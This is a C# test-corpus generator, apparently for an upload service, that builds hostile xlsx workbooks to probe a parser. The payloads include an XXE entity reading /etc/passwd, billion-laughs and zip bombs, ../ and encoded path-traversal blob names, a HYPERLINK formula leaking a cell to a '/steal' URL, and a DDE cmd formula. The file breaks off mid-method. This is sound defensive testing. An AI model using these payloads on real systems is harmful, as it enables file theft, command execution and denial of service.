using System.Buffers.Binary;
using System.Globalization;
using System.IO.Compression;
using System.Text;
using Serverless.Domain.Bidding;
using Serverless.Domain.NewItems;
using Serverless.Domain.Tabular;
using Serverless.Spreadsheets.Samples;
using Serverless.Spreadsheets.Writing;

namespace Serverless.Spreadsheets.Testing;

/// <summary>
/// A seeded corpus of broken and hostile uploads (issue 10): round-1 bid workbooks of a sample campaign's invited
/// hospitals and new-item application workbooks, spoiled the ways clerks and attackers manage — random bytes, cut and
/// flipped zips, zip and XML bombs, a million rows, wrong headers, formulas, merged cells, hidden sheets, full-width
/// digits, extreme numbers, 10,000-character strings, emoji, and blob names that try to leave their folder.
/// Categories take turns, first as bids and then as applications, so 28 cases cover every category both ways; within
/// a category the variants take turns too (364 cases cover every variant). The same campaign, id and seed give the
/// same bytes.
/// </summary>
public sealed class HostileWorkbooks
{
    public const int MillionRowCount = 1_000_000;
    public const int LongTextLength = 10_000;
    private const string MixedScripts = "👨‍👩‍👧‍👦 ᠮᠣᠩᠭᠣᠯ ᠪᠢᠴᠢᠭ 蒙古文 مرحبا بالعالم שלום עולם Ελληνικά Русский 𠀀𪚥 e\u0301 🏥💉";
    private static readonly HostileCategory[] Rotation = [.. Enum.GetValues<HostileCategory>().Where(c => c != HostileCategory.MillionRows)];
    private static readonly string[] ApplicationNames = ["磁控胶囊胃镜检查", "经皮冠状动脉旋磨术", "蒙医温针疗法", "机器人辅助膝关节置换", "超声引导下神经阻滞"];
    private static readonly string[] ApplicationCategories = ["检查类", "治疗类", "手术类"];
    private readonly SampleCampaign _campaign;
    private readonly string _campaignId;
    private readonly int _seed;
    private readonly IReadOnlyList<Hospital> _bidders;
    private readonly Dictionary<string, byte[]> _bombs = new(StringComparer.Ordinal);

    public HostileWorkbooks(SampleCampaign campaign, string campaignId, int seed)
    {
        _campaign = campaign ?? throw new ArgumentNullException(nameof(campaign));
        _campaignId = campaignId ?? throw new ArgumentNullException(nameof(campaignId));
        _seed = seed;
        _bidders = [.. campaign.Bidders];
    }

    /// <summary>
    /// A campaign with an invited hospital for every bid case and some to spare (so round 1 never fills up and closes),
    /// clean rows only: whatever is wrong with a case is what the corpus put there.
    /// </summary>
    public static SampleOptions CampaignOptions(int cases)
        => new(Seed: 2027, Leagues: 12, HospitalsPerLeague: Math.Clamp((cases / 24) + 3, 3, 999), Items: 30, BadRowShare: 0, QuirkShare: 0);

    /// <summary>The cases; with <paramref name="includeMillionRows"/> the last two are a million-row bid and application.</summary>
    public IEnumerable<HostileCase> Generate(int count, bool includeMillionRows = true)
    {
        var millionRows = includeMillionRows ? Math.Min(2, count) : 0;
        var bids = 0;
        for (var number = 0; number < count; number++)
        {
            var (category, kind) = number >= count - millionRows
                ? (HostileCategory.MillionRows, number == count - millionRows ? HostileUploadKind.Bid : HostileUploadKind.Application)
                : (Rotation[number % Rotation.Length], number / Rotation.Length % 2 == 0 ? HostileUploadKind.Bid : HostileUploadKind.Application);
            if (kind == HostileUploadKind.Bid && bids >= _bidders.Count - 1)
            {
                throw new InvalidOperationException($"The campaign invites {_bidders.Count} hospitals, too few for {count} cases; generate it with CampaignOptions({count}).");
            }

            var hospital = kind == HostileUploadKind.Bid ? _bidders[bids++].Code.Value : $"A{number:D5}";
            yield return Build(number, category, kind, hospital, (number / (Rotation.Length * 2)) + _seed);
        }
    }

    private HostileCase Build(int number, HostileCategory category, HostileUploadKind kind, string hospital, int turn)
    {
        var random = new Random(unchecked((_seed * 1_000_003) + number));
        var draft = kind == HostileUploadKind.Bid ? BidDraft(hospital) : ApplicationDraft(hospital, random);
        var spoiled = category switch
        {
            HostileCategory.Valid => Valid(draft, turn),
            HostileCategory.RandomBytes => RandomBytes(draft, random, turn),
            HostileCategory.TruncatedZip => Truncated(draft, random, turn),
            HostileCategory.CorruptZip => Corrupt(draft, random, turn),
            HostileCategory.ZipBomb => Bomb(kind, draft, random, turn),
            HostileCategory.WrongHeaders => Headers(draft, random, turn),
            HostileCategory.Formulas => Formulas(draft, random, turn),
            HostileCategory.MergedCells => Merged(draft, turn),
            HostileCategory.HiddenSheets => Hidden(draft, turn),
            HostileCategory.FullWidthDigits => FullWidthDigits(draft, random, turn),
            HostileCategory.ExtremeNumbers => Extreme(draft, random, turn),
            HostileCategory.LongStrings => LongStrings(draft, random, turn),
            HostileCategory.EmojiAndScripts => Scripts(draft, random, turn),
            HostileCategory.PathTricks => PathTrick(draft, kind, hospital, number, turn),
            _ => MillionRows(draft),
        };
        var blob = kind == HostileUploadKind.Bid ? $"{_campaignId}/round-1/{hospital}.xlsx" : $"{hospital}/{number:D5}.xlsx";
        return new HostileCase(number, category, kind, spoiled.Variant, hospital, spoiled.BlobName ?? blob, spoiled.Expected, spoiled.Content);
    }

    private Draft BidDraft(string hospital)
    {
        var rows = _campaign.RoundOneRows(new HospitalCode(hospital)).Select(r => r.ToArray()).ToList();
        if (rows.Count == 0)
        {
            // A hospital that happens to provide nothing still bids on one item, so every variant has a row to spoil.
            var item = _campaign.Scope.Items[0];
            var (low, high) = _campaign.Catalog.Band(item, _campaign.Catalog.Hospitals[new HospitalCode(hospital)].Tier);
            rows.Add([item.Code.Value, Math.Round((low + high) / 2, 2), null, "成本上涨"]);
        }

        return new Draft(WorkbookSchemas.Bids, "报价", [.. WorkbookSchemas.Bids.Columns.Take(4).Select(c => c.ChineseHeader)], rows, Code: 0, Price: 1, Count: 2, Text: 3);
    }

    private static Draft ApplicationDraft(string hospital, Random random)
    {
        var rows = Enumerable.Range(1, random.Next(1, 4)).Select(n =>
        {
            var name = ApplicationNames[random.Next(ApplicationNames.Length)];
            return new object?[]
            {
                hospital, $"{name}{n}", $"用于{name}的新技术，含耗材与人力", Math.Round((decimal)(50 + (random.NextDouble() * 900)), 2), random.Next(10, 2000),
                ApplicationCategories[random.Next(ApplicationCategories.Length)], "否", "可行性报告.pdf；成本测算表.xlsx",
            };
        }).ToList();
        return new Draft(NewItemSheets.Applications, NewItemSheets.Applications.ChineseName, [.. NewItemSheets.Applications.Columns.Take(8).Select(c => c.ChineseHeader)], rows, Code: 0, Price: 3, Count: 4, Text: 2);
    }

    private static Spoiled Valid(Draft draft, int turn) => (turn % 4) switch
    {
        0 => new("clean", HostileOutcome.Accepted, draft.ToXlsx()),
        1 => new("clean, under a title line", HostileOutcome.Accepted, draft.ToXlsx(["2027 年度报价表（第一轮）"])),
        2 => new("clean, written by the minimal writer", HostileOutcome.Accepted, draft.ToRaw()),
        _ => new("clean, columns in reverse order", HostileOutcome.Accepted, (draft with
        {
            Headers = [.. Enumerable.Reverse(draft.Headers)],
            Rows = [.. draft.Rows.Select(r => Enumerable.Reverse(r).ToArray())],
        }).ToXlsx()),
    };

    private static Spoiled RandomBytes(Draft draft, Random random, int turn)
    {
        var csv = string.Join("\r\n", draft.Table.Select(r => string.Join(",", r.Select(c => Convert.ToString(c, CultureInfo.InvariantCulture)))));
        return (turn % 8) switch
        {
            0 => new("random bytes", HostileOutcome.Refused, Noise(random, random.Next(1, 65_536))),
            1 => new("a zip signature, then noise", HostileOutcome.Refused, [0x50, 0x4B, 0x03, 0x04, .. Noise(random, 2_000)]),
            2 => new("an empty file", HostileOutcome.Refused, []),
            3 => new("CSV text saved as .xlsx", HostileOutcome.Refused, Encoding.UTF8.GetBytes(csv)),
            4 => new("a legacy .xls (OLE2) header, then noise", HostileOutcome.Refused, [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. Noise(random, 4_000)]),
            5 => new("an HTML table saved as .xlsx", HostileOutcome.Refused, Encoding.UTF8.GetBytes($"<html><body><table><tr><td>{csv.Replace(",", "</td><td>", StringComparison.Ordinal)}</td></tr></table></body></html>")),
            6 => new("a gzipped workbook", HostileOutcome.Refused, Gzip(draft.ToXlsx())),
            _ => new("UTF-16 text with a byte-order mark", HostileOutcome.Refused, [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(csv)]),
        };
    }

    private static Spoiled Truncated(Draft draft, Random random, int turn)
    {
        var xlsx = draft.ToXlsx();
        return (turn % 5) switch
        {
            0 => new("cut at a random byte", HostileOutcome.Refused, xlsx[..random.Next(1, xlsx.Length)]),
            1 => new("cut just before the central directory", HostileOutcome.Refused, xlsx[..CentralDirectoryOffset(xlsx)]),
            2 => new("only the first 100 bytes", HostileOutcome.Refused, xlsx[..100]),
            3 => new("the last 10 bytes cut", HostileOutcome.Refused, xlsx[..^10]),
            _ => new("the last byte cut", HostileOutcome.Refused, xlsx[..^1]),
        };
    }

    private static Spoiled Corrupt(Draft draft, Random random, int turn)
    {
        var xlsx = draft.ToXlsx();
        var raw = draft.ToRaw();
        var sheet = string.Format(CultureInfo.InvariantCulture, MinimalXlsx.WorksheetPart, 1);
        return (turn % 13) switch
        {
            0 => new("1 to 20 bytes flipped anywhere", HostileOutcome.Any, Flip(xlsx, random, 0, xlsx.Length, random.Next(1, 21))),
            1 => new("bytes flipped in the central directory", HostileOutcome.Any, Flip(xlsx, random, CentralDirectoryOffset(xlsx), xlsx.Length, random.Next(1, 6))),
            2 => new("the first local header zeroed", HostileOutcome.Any, Zero(xlsx, 0, 30)),
            3 => new("64 bytes zeroed in the middle", HostileOutcome.Any, Zero(xlsx, xlsx.Length / 2, 64)),
            4 => new("[Content_Types].xml left out", HostileOutcome.Refused, Repack(raw, (name, data) => name == "[Content_Types].xml" ? [] : [data])),
            5 => new("the workbook part left out", HostileOutcome.Refused, Repack(raw, (name, data) => name == "xl/workbook.xml" ? [] : [data])),
            6 => new("the worksheet part left out", HostileOutcome.Refused, Repack(raw, (name, data) => name == sheet ? [] : [data])),
            7 => new("the worksheet relationship leaves the package (../../../etc/passwd)", HostileOutcome.Refused,
                EditPart(raw, MinimalXlsx.WorkbookRelationshipsPart, x => x.Replace("worksheets/sheet1.xml", "../../../../etc/passwd", StringComparison.Ordinal))),
            8 => new("a relationship target that is not a URI", HostileOutcome.Refused,
                EditPart(raw, MinimalXlsx.WorkbookRelationshipsPart, x => x.Replace("worksheets/sheet1.xml", "http://[::1:bad", StringComparison.Ordinal))),
            9 => new("the worksheet relationship is external", HostileOutcome.Refused,
                EditPart(raw, MinimalXlsx.WorkbookRelationshipsPart, x => x.Replace("Target=\"worksheets/sheet1.xml\"", "Target=\"http://127.0.0.1:9/sheet1.xml\" TargetMode=\"External\"", StringComparison.Ordinal))),
            10 => new("70 KB of noise appended", HostileOutcome.Any, [.. xlsx, .. Noise(random, 70_000)]),
            11 => new("the workbook part twice under one name", HostileOutcome.Any, Repack(raw, (name, data) => name == "xl/workbook.xml" ? [data, data] : [data])),
            _ => new("sheet XML that is not well-formed", HostileOutcome.Refused, EditPart(raw, sheet, x => x.Replace("</sheetData>", "</sheetDat>", StringComparison.Ordinal))),
        };
    }

    private Spoiled Bomb(HostileUploadKind kind, Draft draft, Random random, int turn)
    {
        var header = new[] { (IReadOnlyList<object?>)draft.Headers };
        var sheet = string.Format(CultureInfo.InvariantCulture, MinimalXlsx.WorksheetPart, 1);
        var raw = draft.ToRaw();
        return (turn % 9) switch
        {
            0 => new("sheet XML padded with 64 MB of blanks", HostileOutcome.Refused, Cached($"{kind}/blanks", () => MinimalXlsx.Build(
                [new RawWorksheet(draft.SheetName, w =>
                {
                    MinimalXlsx.WriteRow(w, 1, draft.Headers);
                    Repeat(w, ' ', 64 << 20);
                })]))),
            1 => new("a shared-strings part of one 64 MB string", HostileOutcome.Refused, Cached($"{kind}/string", () => MinimalXlsx.Build(
                [RawWorksheet.FromRows(draft.SheetName, [.. header, [RawCell.SharedString(0)]])],
                w =>
                {
                    w.Write("<si><t>");
                    Repeat(w, 'A', 64 << 20);
                    w.Write("</t></si>");
                }))),
            2 => new("the sheet declares 4 GB uncompressed", HostileOutcome.Refused, DeclareSize(raw, sheet, 0xFFFF_FFF0u)),
            3 => new("the sheet declares 200 bytes but holds more", HostileOutcome.Refused, DeclareSize(raw, sheet, 200)),
            4 => new("billion-laughs entity expansion in the sheet", HostileOutcome.Refused, MinimalXlsx.Build(
                [new RawWorksheet(draft.SheetName, w => MinimalXlsx.WriteRow(w, 1, [new RawCell("<is><t>&lol9;</t></is>", "inlineStr")])) { Prolog = BillionLaughs() }])),
            5 => new("an external entity (XXE) reading /etc/passwd", HostileOutcome.Refused, MinimalXlsx.Build(
                [new RawWorksheet(draft.SheetName, w =>
                {
                    MinimalXlsx.WriteRow(w, 1, draft.Headers);
                    MinimalXlsx.WriteRow(w, 2, [.. draft.Rows[0].Select((c, i) => i == draft.Text ? new RawCell("<is><t>&xxe;</t></is>", "inlineStr") : c)]);
                })
                {
                    Prolog = $"{RawWorksheet.Declaration}<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
                }])),
            6 => new("200,000 distinct shared strings (about 20 MB)", HostileOutcome.Accepted, SharedStringFlood(draft, random)),
            7 => new("20,000 empty parts around a good workbook", HostileOutcome.Any,
                Repack(raw, (_, data) => [data], Enumerable.Range(0, 20_000).Select(i => $"junk/{i}.bin"))),
            _ => new("a zip inside the sheet part", HostileOutcome.Refused, Repack(raw, (name, data) => name == sheet ? [raw] : [data])),
        };
    }

    private static Spoiled Headers(Draft draft, Random random, int turn)
    {
        var row = random.Next(draft.Rows.Count);
        return (turn % 10) switch
        {
            0 => new("English aliases", HostileOutcome.Accepted, (draft with { Headers = [.. draft.Spec.Columns.Take(draft.Headers.Length).Select(c => c.Alias.ToUpperInvariant())] }).ToXlsx()),
            1 => new("units, full-width brackets and stray spaces", HostileOutcome.Accepted,
                (draft with { Headers = [.. draft.Headers.Select((h, i) => i == draft.Price ? $"  {h}（元） " : $"{h} ")] }).ToXlsx()),
            2 => new("a required header misspelt", HostileOutcome.Refused, draft.WithHeader(draft.Code, draft.Headers[draft.Code][..^1] + "号").ToXlsx()),
            3 => new("a required column left out", HostileOutcome.Refused, (draft with
            {
                Headers = [.. draft.Headers.Where((_, i) => i != draft.Price)],
                Rows = [.. draft.Rows.Select(r => r.Where((_, i) => i != draft.Price).ToArray())],
            }).ToXlsx()),
            4 => new("a column repeated", HostileOutcome.Refused, (draft with
            {
                Headers = [.. draft.Headers, draft.Headers[draft.Price]],
                Rows = [.. draft.Rows.Select(r => (object?[])[.. r, r[draft.Price]])],
            }).ToXlsx()),
            5 => new("the header below row 10", HostileOutcome.Refused, draft.ToXlsx([.. Enumerable.Range(1, 11).Select(i => $"说明第 {i} 行")])),
            6 => new("no header row", HostileOutcome.Refused, MinimalXlsx.Build([RawWorksheet.FromRows(draft.SheetName, draft.Rows)])),
            7 => new("the header row repeated among the data", HostileOutcome.RowIssues, (draft with { Rows = [.. draft.Rows.Take(row), [.. draft.Headers], .. draft.Rows.Skip(row)] }).ToXlsx()),
            8 => new("headers only, no rows", HostileOutcome.Accepted, (draft with { Rows = [] }).ToXlsx()),
            _ => new("blank header cells", HostileOutcome.Refused, (draft with { Headers = [.. draft.Headers.Select(_ => "  ")] }).ToXlsx()),
        };
    }

    private static Spoiled Formulas(Draft draft, Random random, int turn)
    {
        var row = random.Next(draft.Rows.Count);
        var last = draft.Rows.Count + 1;
        var column = MinimalXlsx.Reference(draft.Price, 2)[..^1];
        string Cached(int r) => Convert.ToString(draft.Rows[r][draft.Price], CultureInfo.InvariantCulture)!;
        return (turn % 9) switch
        {
            0 => new("prices from formulas with cached values", HostileOutcome.Accepted,
                draft.MapColumn(draft.Price, (r, _) => RawCell.Formula($"ROUND({Cached(r)}*1,2)", Cached(r))).ToRaw()),
            1 => new("a shared formula down the price column", HostileOutcome.Accepted, draft.MapColumn(draft.Price, (r, _) => r == 0
                ? new RawCell($"<f t=\"shared\" ref=\"{column}2:{column}{last}\" si=\"0\">ROUND({column}2,2)</f><v>{Cached(r)}</v>")
                : new RawCell($"<f t=\"shared\" si=\"0\"/><v>{Cached(r)}</v>")).ToRaw()),
            2 => new("an array formula with cached values", HostileOutcome.Accepted, draft.MapColumn(draft.Price, (r, _) => r == 0
                ? new RawCell($"<f t=\"array\" ref=\"{column}2:{column}{last}\">{column}2:{column}{last}*1</f><v>{Cached(r)}</v>")
                : RawCell.Number(Cached(r))).ToRaw()),
            3 => new("a formula with no cached value", HostileOutcome.RowIssues, draft.With(row, draft.Price, RawCell.Formula($"SUM({column}2:{column}9)", null)).ToRaw()),
            4 => new("a formula cached as an error (#DIV/0!)", HostileOutcome.RowIssues, draft.With(row, draft.Price, RawCell.Formula("1/0", "#DIV/0!", "e")).ToRaw()),
            5 => new("string formulas giving the codes", HostileOutcome.Accepted,
                draft.MapColumn(draft.Code, (_, code) => RawCell.Formula($"TRIM(\"{code}\")", (string)code!, "str")).ToRaw()),
            6 => new("formula-looking text in a refused cell (=HYPERLINK…)", HostileOutcome.RowIssues,
                draft.With(row, draft.Code, "=HYPERLINK(\"http://127.0.0.1:9/steal?\"&A1,\"点击查看\")").ToRaw()),
            7 => new("a formula reaching into another workbook", HostileOutcome.Accepted, draft.With(row, draft.Price, RawCell.Formula("[1]Sheet1!A1", Cached(row))).ToRaw()),
            _ => new("a DDE command formula in free text", HostileOutcome.Accepted, draft.With(row, draft.Text, RawCell.Formula("cmd|' /C calc'!A0", "说明", "str")).ToRaw()),
        };
    }

    private static Spoiled Merged(Draft draft, int turn)
    {
        string Merge(params string[] ranges) => $"<mergeCells count=\"{ranges.Length}\">{string.Concat(ranges.Select(r => $"<mergeCell ref=\"{r}\"/>"))}</mergeCells>";
        string Column(int index) => MinimalXlsx.Reference(index, 1)[..^1];
        var width = draft.Headers.Length;
        switch (turn % 5)
        {
            case 0:
                return new("a merged title above the header", HostileOutcome.Accepted, MinimalXlsx.Build(
                    [RawWorksheet.FromRows(draft.SheetName, [["2027 年度第一轮报价（请勿改动表头）"], .. draft.Table]) with { AfterSheetData = Merge($"A1:{Column(width - 1)}1") }]));
            case 1:
                var rows = draft.Rows.Count >= 3 ? draft.Rows : [.. draft.Rows, .. Enumerable.Repeat(draft.Rows[0], 3 - draft.Rows.Count)];
                var spoiled = draft with { Rows = [.. rows.Select((r, i) => i is 1 or 2 ? r.Select((c, j) => j == draft.Code ? null : c).ToArray() : r)] };
                return new("the code merged down three rows", HostileOutcome.RowIssues, spoiled.ToRaw(Merge($"{Column(draft.Code)}2:{Column(draft.Code)}4")));
            case 2:
                var widened = draft with
                {
                    Headers = [.. draft.Headers.Take(draft.Price + 1), null!, .. draft.Headers.Skip(draft.Price + 1)],
                    Rows = [.. draft.Rows.Select(r => (object?[])[.. r.Take(draft.Price + 1), r[draft.Price], .. r.Skip(draft.Price + 1)])],
                };
                return new("merged header cells", HostileOutcome.Accepted, widened.ToRaw(Merge($"{Column(draft.Price)}1:{Column(draft.Price + 1)}1")));
            case 3:
                return new("a merged block across the last column of a row", HostileOutcome.Accepted, draft.ToRaw(Merge($"{Column(width - 1)}2:{Column(width + 1)}2")));
            default:
                return new("merges spanning the whole sheet and reversed", HostileOutcome.Accepted, draft.ToRaw(Merge("A1:XFD1048576", "C3:A1")));
        }
    }

    private static Spoiled Hidden(Draft draft, int turn)
    {
        var decoy = draft with { Rows = [.. draft.Rows.Select(r => r.Select((c, i) => i == draft.Code ? "DECOY-" + c : c).ToArray())] };
        RawWorksheet Sheet(string name, Draft content, string? state = null) => RawWorksheet.FromRows(name, content.Table) with { State = state };
        return (turn % 6) switch
        {
            0 => new("a hidden decoy sheet before the real one", HostileOutcome.Accepted, MinimalXlsx.Build([Sheet("Sheet1", decoy, "hidden"), Sheet(draft.SheetName, draft)])),
            1 => new("the only sheet hidden", HostileOutcome.Accepted, MinimalXlsx.Build([Sheet(draft.SheetName, draft, "hidden")])),
            2 => new("a hidden sheet with the expected name shadows the visible one", HostileOutcome.Any,
                MinimalXlsx.Build([Sheet("Sheet1", draft), Sheet(draft.SheetName, decoy, "hidden")])),
            3 => new("a very hidden first sheet in front of the visible data", HostileOutcome.Any,
                MinimalXlsx.Build([Sheet("Sheet0", decoy, "veryHidden"), Sheet("Sheet2", draft)])),
            4 => new("a workbook with no sheets", HostileOutcome.Refused, MinimalXlsx.Build([])),
            _ => new("a sheet whose relationship id does not exist", HostileOutcome.Refused,
                EditPart(draft.ToRaw(), "xl/workbook.xml", x => x.Replace("r:id=\"rId1\"", "r:id=\"rId9\"", StringComparison.Ordinal))),
        };
    }

    private static Spoiled FullWidthDigits(Draft draft, Random random, int turn)
    {
        var row = random.Next(draft.Rows.Count);
        string Text(object? value, string format) => value is IFormattable f ? f.ToString(format, CultureInfo.InvariantCulture) : Convert.ToString(value, CultureInfo.InvariantCulture) ?? string.Empty;
        return (turn % 7) switch
        {
            0 => new("prices in full-width digits (１２３．５０)", HostileOutcome.Accepted, draft.MapColumn(draft.Price, (_, p) => FullWidth(Text(p, "0.00"))).ToXlsx()),
            1 => new("codes, prices and counts in full-width forms", HostileOutcome.Accepted, draft
                .MapColumn(draft.Code, (_, c) => FullWidth(Text(c, string.Empty)))
                .MapColumn(draft.Price, (_, p) => FullWidth(Text(p, "0.00")))
                .MapColumn(draft.Count, (_, n) => n is null ? null : FullWidth(Text(n, string.Empty))).ToXlsx()),
            2 => new("full-width thousands separators (１，２３４．５０)", HostileOutcome.Accepted, draft.MapColumn(draft.Price, (_, p) => FullWidth(Text(p, "#,##0.00"))).ToXlsx()),
            3 => new("an ideographic full stop as the decimal point (１２３。５)", HostileOutcome.Accepted,
                draft.MapColumn(draft.Price, (_, p) => FullWidth(Text(p, "0.00")).Replace('．', '。')).ToXlsx()),
            4 => new("a full-width minus (－１２３)", HostileOutcome.RowIssues, draft.With(row, draft.Price, "－" + FullWidth(Text(draft.Rows[row][draft.Price], "0.00"))).ToXlsx()),
            5 => new("Arabic-Indic digits (١٢٣)", HostileOutcome.RowIssues,
                draft.With(row, draft.Price, new string([.. Text(draft.Rows[row][draft.Price], "0.00").Select(c => char.IsAsciiDigit(c) ? (char)(c - '0' + '\u0660') : c)])).ToXlsx()),
            _ => new("full-width headers (ＩＴＥＭ＿ＣＯＤＥ)", HostileOutcome.Accepted,
                (draft with { Headers = [.. draft.Spec.Columns.Take(draft.Headers.Length).Select(c => FullWidth(c.Alias.ToUpperInvariant()))] }).ToXlsx()),
        };
    }

    private static Spoiled Extreme(Draft draft, Random random, int turn)
    {
        var row = random.Next(draft.Rows.Count);
        Spoiled Price(string variant, HostileOutcome expected, object value) => new(variant, expected, draft.With(row, draft.Price, value).ToRaw());
        return (turn % 12) switch
        {
            0 => Price("a negative price", HostileOutcome.RowIssues, -(decimal)draft.Rows[row][draft.Price]!),
            1 => Price("a zero price", HostileOutcome.RowIssues, 0m),
            2 => Price("1E+30 in a number cell", HostileOutcome.RowIssues, RawCell.Number("1E+30")),
            3 => Price("NaN in a number cell", HostileOutcome.RowIssues, RawCell.Number("NaN")),
            4 => Price("NaN as text", HostileOutcome.RowIssues, "NaN"),
            5 => Price("∞ as text", HostileOutcome.RowIssues, "∞"),
            6 => Price("-INF in a number cell", HostileOutcome.RowIssues, RawCell.Number("-INF")),
            7 => Price("the largest decimal as text (79228162514264337593543950335)", HostileOutcome.Any, decimal.MaxValue.ToString(CultureInfo.InvariantCulture)),
            8 => Price("1E-30 in a number cell", HostileOutcome.RowIssues, RawCell.Number("1E-30")),
            9 => Price("1e400 in a number cell", HostileOutcome.RowIssues, RawCell.Number("1e400")),
            // A number cell is a double: long.MaxValue comes back as 9223372036854775808, past a whole count's range.
            10 => new("the largest long in the count column", draft.IsBid ? HostileOutcome.Accepted : HostileOutcome.RowIssues, draft.With(row, draft.Count, long.MaxValue).ToRaw()),
            _ => Price("hexadecimal text (0x1F)", HostileOutcome.RowIssues, "0x1F"),
        };
    }

    private static Spoiled LongStrings(Draft draft, Random random, int turn)
    {
        var row = random.Next(draft.Rows.Count);
        var text = LongText(random);
        return (turn % 6) switch
        {
            0 => new("10,000 characters of free text", HostileOutcome.Accepted, draft.With(row, draft.Text, text).ToXlsx()),
            1 => new("a 10,000-character code", HostileOutcome.RowIssues, draft.With(row, draft.Code, "C" + new string('0', LongTextLength - 1)).ToXlsx()),
            2 => new("an extra column with a 10,000-character header", HostileOutcome.Accepted,
                (draft with { Headers = [.. draft.Headers, text], Rows = [.. draft.Rows.Select(r => (object?[])[.. r, "备注"])] }).ToXlsx()),
            3 => new("a 10,000-character sheet name", HostileOutcome.Accepted, (draft with { SheetName = text }).ToRaw()),
            4 => new("10,000 characters in every cell of a row", HostileOutcome.RowIssues,
                (draft with { Rows = [.. draft.Rows.Select((r, i) => i == row ? r.Select(_ => (object?)text).ToArray() : r)] }).ToXlsx()),
            _ => new("a 10,000-digit price", HostileOutcome.RowIssues, draft.With(row, draft.Price, new string('9', LongTextLength)).ToXlsx()),
        };
    }

    private static Spoiled Scripts(Draft draft, Random random, int turn)
    {
        var row = random.Next(draft.Rows.Count);
        return (turn % 8) switch
        {
            0 => new("emoji and mixed scripts in free text", HostileOutcome.Accepted, draft.MapColumn(draft.Text, (_, _) => MixedScripts).ToXlsx()),
            1 => new("an emoji inside the code", HostileOutcome.RowIssues, draft.With(row, draft.Code, draft.Rows[row][draft.Code] + "😷").ToXlsx()),
            2 => new("an emoji sheet name", HostileOutcome.Accepted, (draft with { SheetName = "报价😷🏥" }).ToXlsx()),
            3 => new("a zero-width space inside a required header", HostileOutcome.Refused, draft.WithHeader(draft.Code, draft.Headers[draft.Code].Insert(2, "\u200B")).ToXlsx()),
            4 => new("a right-to-left override before a price", HostileOutcome.RowIssues,
                draft.With(row, draft.Price, "\u202E" + Convert.ToString(draft.Rows[row][draft.Price], CultureInfo.InvariantCulture)).ToXlsx()),
            5 => new("an invalid XML character (&#x1;) in a cell", HostileOutcome.Refused, draft.With(row, draft.Text, new RawCell("<is><t>控制&#x1;字符</t></is>", "inlineStr")).ToRaw()),
            6 => new("a lone surrogate (&#xD83D;) in a cell", HostileOutcome.Refused, draft.With(row, draft.Text, new RawCell("<is><t>半个&#xD83D;表情</t></is>", "inlineStr")).ToRaw()),
            _ => new("Mongolian script and rare CJK in a name column", HostileOutcome.Accepted, (draft.IsBid
                ? draft with { Headers = [.. draft.Headers, "项目名称"], Rows = [.. draft.Rows.Select(r => (object?[])[.. r, "ᠮᠣᠩᠭᠣᠯ ᠡᠮᠨᠡᠯᠭᠡ 𠀀𪚥"])] }
                : draft.MapColumn(1, (_, _) => "ᠮᠣᠩᠭᠣᠯ ᠡᠮᠨᠡᠯᠭᠡ 𠀀𪚥疗法")).ToXlsx()),
        };
    }

    /// <summary>A good workbook under a blob name that tries to leave its folder, hide its shape or overflow a key.</summary>
    private Spoiled PathTrick(Draft draft, HostileUploadKind kind, string hospital, int number, int turn)
    {
        var folder = kind == HostileUploadKind.Bid ? $"{_campaignId}/round-1" : hospital;
        var file = kind == HostileUploadKind.Bid ? hospital : number.ToString("D5", CultureInfo.InvariantCulture);
        var (variant, name) = (turn % 12) switch
        {
            0 => ("a leading ../", $"../{folder}/{file}.xlsx"),
            1 => ("a ../ inside the path", $"{folder}/../{folder}/{file}.xlsx"),
            2 => ("encoded slashes (%2f)", $"{folder.Replace("/", "%2f", StringComparison.Ordinal)}%2f{file}.xlsx"),
            3 => ("an absolute path (/etc/…)", $"/etc/{file}.xlsx"),
            4 => ("a name of more than 1,000 characters", $"{folder}/{file}{new string('x', Math.Max(0, 1_010 - folder.Length - file.Length))}.xlsx"),
            5 => ("spaces, CJK and emoji in the name", $"{folder}/{file} 医院 报价 😷.xlsx"),
            6 => ("backslashes", $"{folder.Replace('/', '\\')}\\{file}.xlsx"),
            7 => ("an encoded ../ (%2e%2e%2f)", $"{folder}/%2e%2e%2f{file}.xlsx"),
            8 => ("a double slash", $"{folder}//{file}.xlsx"),
            9 => ("a look-alike hyphen (U+2010) or an extra folder", kind == HostileUploadKind.Bid ? $"{_campaignId}/round\u20101/{file}.xlsx" : $"{folder}/sub/{file}.xlsx"),
            10 => ("an upper-case extension", $"{folder}/{file}.XLSX"),
            _ => ("a trailing /. segment", $"{folder}/{file}.xlsx/."),
        };
        return new(variant, HostileOutcome.Any, draft.ToXlsx(), name);
    }

    /// <summary>A million rows, text as shared strings (as Excel saves it), so the file stays under the upload size limit.</summary>
    private static Spoiled MillionRows(Draft draft)
    {
        var texts = new List<string>();
        var rows = ShareStrings(draft.Rows, texts);
        var content = MinimalXlsx.Build([new RawWorksheet(draft.SheetName, w =>
        {
            MinimalXlsx.WriteRow(w, 1, draft.Headers);
            for (var i = 0; i < MillionRowCount; i++)
            {
                MinimalXlsx.WriteRow(w, i + 2, rows[i % rows.Count]);
            }
        })], MinimalXlsx.SharedStringItems(texts), CompressionLevel.Fastest);
        return new($"{MillionRowCount:N0} data rows", HostileOutcome.Refused, content);
    }

    private static byte[] SharedStringFlood(Draft draft, Random random)
    {
        var texts = new List<string>();
        var table = ShareStrings(draft.Table, texts);
        var letters = new char[100];
        var filler = Enumerable.Range(0, 200_000).Select(_ =>
        {
            for (var i = 0; i < letters.Length; i++)
            {
                letters[i] = (char)('a' + random.Next(26));
            }

            return new string(letters);
        });
        return MinimalXlsx.Build([RawWorksheet.FromRows(draft.SheetName, table)], MinimalXlsx.SharedStringItems(texts.Concat(filler)));
    }

    /// <summary>The rows with every text cell moved into <paramref name="texts"/> and replaced by its index.</summary>
    private static List<IReadOnlyList<object?>> ShareStrings(IEnumerable<IReadOnlyList<object?>> rows, List<string> texts)
        => [.. rows.Select(r => (IReadOnlyList<object?>)[.. r.Select(c =>
        {
            if (c is not string s)
            {
                return c;
            }

            texts.Add(s);
            return RawCell.SharedString(texts.Count - 1);
        })])];

    private byte[] Cached(string key, Func<byte[]> build)
    {
        if (!_bombs.TryGetValue(key, out var content))
        {
            content = build();
            _bombs[key] = content;
        }

        return content;
    }

    private static string BillionLaughs()
    {
